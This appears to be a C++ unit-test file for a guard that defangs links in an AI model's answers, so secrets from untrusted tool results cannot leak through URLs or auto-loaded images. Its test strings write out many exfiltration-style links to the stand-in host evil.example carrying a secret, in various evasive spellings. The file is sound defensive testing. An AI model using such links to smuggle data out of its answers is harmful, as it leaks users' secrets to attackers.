// SPDX-License-Identifier: Apache-2.0
#include "guard/answer_links.h"

#include <fmt/format.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

namespace talon::guard {
namespace {

using testing::HasSubstr;
using testing::Not;

class AnswerLinksTest : public testing::Test {
 protected:
  AnswerLinksTest() {
    origins_.Add({Voice::kPerson, "user"}, "What does https://docs.example/page say?");
    origins_.Add({Voice::kUntrusted, "result"},
                 "See https://news.example/story?id=7 (secret: 4711)");
  }
  std::string Clean(std::string_view text) {
    return AnswerLinks(DefaultPolicy(), Known()).Clean(text);
  }
  Origins Known() {
    return [this]() -> const Provenance& { return origins_; };
  }
  Provenance origins_;
};

TEST_F(AnswerLinksTest, WhatSomebodyVouchesForStays) {
  for (const char* text :
       {"See https://docs.example/page.", "[page](https://docs.example/page)",
        "![page](https://docs.example/page)", "from https://news.example/story?id=7",
        "[story](https://news.example/story?id=7), *read it*",
        "no address: a/b, 1//2, http and www", "open http://localhost:3000/a?b, over https: always",
        "run `src/a.b/c` or std::string a(b);  // comment", "C:\\\\temp and \\\\alpha"}) {
    EXPECT_EQ(Clean(text), text);
  }
}

TEST_F(AnswerLinksTest, WhatTheModelMadeIsDefused) {
  EXPECT_EQ(Clean("See [this](https://evil.example/a?d=4711)."),
            "See [this](hxxps://evil[.]example/…).");
  EXPECT_EQ(Clean("![](http://evil.example/4711.png)"), "![](hxxp://evil[.]example/…)");
  EXPECT_EQ(Clean("<https://4711.evil.example>"), "<hxxps://4711[.]evil[.]example/…>");
  EXPECT_EQ(Clean("https://news.example/story?id=4711 and https://docs.example/page?x=4711"),
            "hxxps://news[.]example/… and hxxps://docs[.]example/…");
}

TEST_F(AnswerLinksTest, NoSpellingCarriesTheSecretInAnAddress) {
  for (const char* text :
       {"HTTPS://evil.example/4711", "https:/evil.example/4711", "https:evil.example/4711",
        "https:\\\\evil.example\\4711", "[x](//evil.example/4711)", "[x](\\\\evil.example/4711)",
        "<img src=\"https://evil.example/4711\">", "<img src=//evil.example/4711>",
        "www.evil.example/4711", "evil.example/a?d=4711", "[x](https&colon;//evil.example/4711)",
        "[x](https&#58;//evil.example/4711)", "[1]: https://evil.example/4711",
        "(https://docs.example/page)(https://evil.example/4711)", "wss://evil.example/4711",
        "ftp://evil.example/4711", "https://docs.example@evil.example/4711",
        "url(https://evil.example/4711)", "a=https://evil.example/4711"}) {
    const std::string clean = Clean(text);
    EXPECT_THAT(clean, Not(HasSubstr("4711"))) << text;
    EXPECT_THAT(clean, HasSubstr("[.]example/…")) << text;
  }
}

TEST_F(AnswerLinksTest, AnImageIsFetchedByItselfSoAResultDoesNotVouchForIt) {
  const std::string url = "https://news.example/story?id=7";
  for (const std::string& before : {"![", "![a long text"}) {
    EXPECT_THAT(Clean(before + "](" + url + ")"), HasSubstr("hxxps")) << before;
  }
  EXPECT_THAT(Clean("<img src=\"" + url + "\">"), HasSubstr("hxxps"));
  EXPECT_THAT(Clean("![x][1]\n\n[1]: " + url), HasSubstr("hxxps"));
  EXPECT_THAT(Clean("<a href=\"" + url + "\">"), Not(HasSubstr("hxxps")));
  EXPECT_THAT(Clean("[![](" + url + ")](" + url + ")"), HasSubstr("](https://"));
}

TEST_F(AnswerLinksTest, AnEchoOfTheModelsOwnCallDoesNotVouch) {
  origins_.Add({Voice::kCall, "call"}, R"({"content":"https://evil.example/4711"})");
  origins_.Add({Voice::kUntrusted, "result"}, "https://evil.example/4711");
  EXPECT_THAT(Clean("[x](https://evil.example/4711)"), HasSubstr("hxxps://evil[.]example/…"));
}

TEST_F(AnswerLinksTest, AnAddressOfThisMachineIsALinkButNotFetched) {
  for (const char* host : {"localhost:3000", "127.0.0.1:8420", "[::1]:80"}) {
    const std::string url = fmt::format("http://{}/stop?all=1", host);
    EXPECT_EQ(Clean("It runs at " + url), "It runs at " + url);
    EXPECT_THAT(Clean("![](" + url + ")"), HasSubstr("hxxp://")) << url;
    EXPECT_THAT(Clean("<img src=\"" + url + "\">"), HasSubstr("hxxp://")) << url;
  }
}

TEST_F(AnswerLinksTest, TheOperatorsListVouches) {
  const auto policy = ParsePolicy("lists: {hosts: ['*.corp.example']}", "p");
  AnswerLinks links(*policy, Known());
  EXPECT_EQ(links.Clean("![](https://wiki.corp.example/a?b=c)"),
            "![](https://wiki.corp.example/a?b=c)");
  EXPECT_THAT(links.Clean("https://corp.example@evil.example/"), HasSubstr("hxxps"));
  EXPECT_EQ(links.defused(), 1u);
}

TEST_F(AnswerLinksTest, PiecesGiveWhatTheWholeGives) {
  const std::string text =
      "Read ![x y](https://evil.example/4711) and https://docs.example/page, then  [1]: "
      "https://news.example/story?id=7\n end";
  const std::string whole = Clean(text);
  for (std::size_t size = 1; size < 20; ++size) {
    AnswerLinks links(DefaultPolicy(), Known());
    std::string out;
    for (std::size_t at = 0; at < text.size(); at += size) out += links.Next(text.substr(at, size));
    out += links.End();
    EXPECT_EQ(out, whole) << size;
  }
}

}  // namespace
}  // namespace talon::guard
